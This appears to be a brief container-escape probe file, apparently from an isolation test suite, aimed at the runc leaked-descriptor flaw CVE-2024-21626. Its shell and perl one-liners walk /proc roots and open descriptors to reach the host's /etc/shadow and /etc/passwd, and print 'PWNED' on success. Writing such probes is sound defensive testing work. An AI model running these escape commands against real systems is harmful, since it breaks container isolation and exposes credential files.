# tries: reach the outside through /proc/PID/root and descriptors left open
# from: CVE-2024-21626, runc's leaked descriptor
tried roots-and-descriptors
for p in /proc/[0-9]*; do ls $p/root/root > /dev/null 2>&1 && echo PWNED; for f in $p/fd/*; do ls "$f/../../../../../etc/shadow" > /dev/null 2>&1 && echo PWNED; done; done
hidden open-folders '^/(run|root|home|srv|var|tmp/asy)' sh -c 'for f in /proc/[0-9]*/fd/*; do [ -d "$f" ] && readlink "$f"; done'
tried working-folder-of-parent
perl -e 'for my $fd (3 .. 255) { my $path = "etc/passwd"; syscall(257, $fd, $path, 0) >= 0 && print "PWNED $fd\n" }'
